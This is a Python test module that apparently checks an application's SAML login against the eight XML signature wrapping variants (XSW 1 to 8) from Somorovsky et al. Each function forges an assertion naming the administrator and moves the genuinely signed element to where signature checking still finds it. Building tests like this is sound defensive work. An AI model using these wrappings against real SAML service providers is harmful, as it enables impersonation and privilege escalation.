"""Signature wrapping, XSW 1 to 8 of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be": something right
and signed is moved to where its signature still finds it, while something else is read."""

from __future__ import annotations

import copy
from collections.abc import Callable, Sequence
from typing import Any

from api.tests.attacks.saml.idp import ADMIN, NAMES, etree, sign, sign_assertion

Wrap = Callable[[Any], Any]
EVIL_ID = "evil"


def _make_evil(response: Any) -> Any:
    """A copy of the assertion that speaks of the administrator."""
    evil = copy.deepcopy(response.find("saml:Assertion", NAMES))
    evil.set("ID", EVIL_ID)
    for path in ("saml:Subject/saml:NameID", "saml:AttributeStatement/saml:Attribute/saml:AttributeValue"):
        evil.find(path, NAMES).text = ADMIN
    signature = evil.find("ds:Signature", NAMES)
    if signature is not None:
        evil.remove(signature)
    return evil


def _wrap_1(response: Any) -> Any:
    """The signed response becomes an object of the signature of a forged one."""
    signed = sign(response)
    forged = copy.deepcopy(signed)
    signature = forged.find("ds:Signature", NAMES)
    original = copy.deepcopy(signed)
    original.remove(original.find("ds:Signature", NAMES))
    forged.set("ID", "evil-response")
    forged.replace(forged.find("saml:Assertion", NAMES), _make_evil(response))
    signature.append(original)
    return forged


def _wrap_2(response: Any) -> Any:
    """As before, but the signed response stands before the signature."""
    forged = _wrap_1(response)
    signature = forged.find("ds:Signature", NAMES)
    original = signature.find("samlp:Response", NAMES)
    signature.addprevious(original)
    return forged


def _wrap_3(response: Any) -> Any:
    """A forged assertion stands before the signed one."""
    signed = sign_assertion(response)
    signed.find("saml:Assertion", NAMES).addprevious(_make_evil(signed))
    return signed


def _wrap_4(response: Any) -> Any:
    """The signed assertion stands in the forged one."""
    signed = sign_assertion(response)
    original = signed.find("saml:Assertion", NAMES)
    evil = _make_evil(signed)
    signed.replace(original, evil)
    evil.append(original)
    return signed


def _wrap_5(response: Any) -> Any:
    """The signature moves into the forged assertion, and what it is about to the end."""
    signed = sign_assertion(response)
    original = signed.find("saml:Assertion", NAMES)
    signature = original.find("ds:Signature", NAMES)
    evil = _make_evil(signed)
    evil.find("saml:Issuer", NAMES).addnext(signature)
    signed.replace(original, evil)
    signed.append(original)
    return signed


def _wrap_6(response: Any) -> Any:
    """The signature moves into the forged assertion, and what it is about into the signature."""
    signed = _wrap_5(response)
    evil, original = signed.findall("saml:Assertion", NAMES)
    evil.find("ds:Signature", NAMES).append(original)
    return signed


def _wrap_7(response: Any) -> Any:
    """The forged assertion stands in an extension."""
    signed = sign_assertion(response)
    extensions = etree.Element(f"{{{NAMES['samlp']}}}Extensions")
    extensions.append(_make_evil(signed))
    signed.find("saml:Issuer", NAMES).addnext(extensions)
    return signed


def _wrap_8(response: Any) -> Any:
    """The signed assertion is an object of the signature of the forged one."""
    signed = _wrap_5(response)
    evil, original = signed.findall("saml:Assertion", NAMES)
    carrier = etree.SubElement(evil.find("ds:Signature", NAMES), f"{{{NAMES['ds']}}}Object")
    carrier.append(original)
    return signed


WRAPPINGS: Sequence[Wrap] = (_wrap_1, _wrap_2, _wrap_3, _wrap_4, _wrap_5, _wrap_6, _wrap_7, _wrap_8)
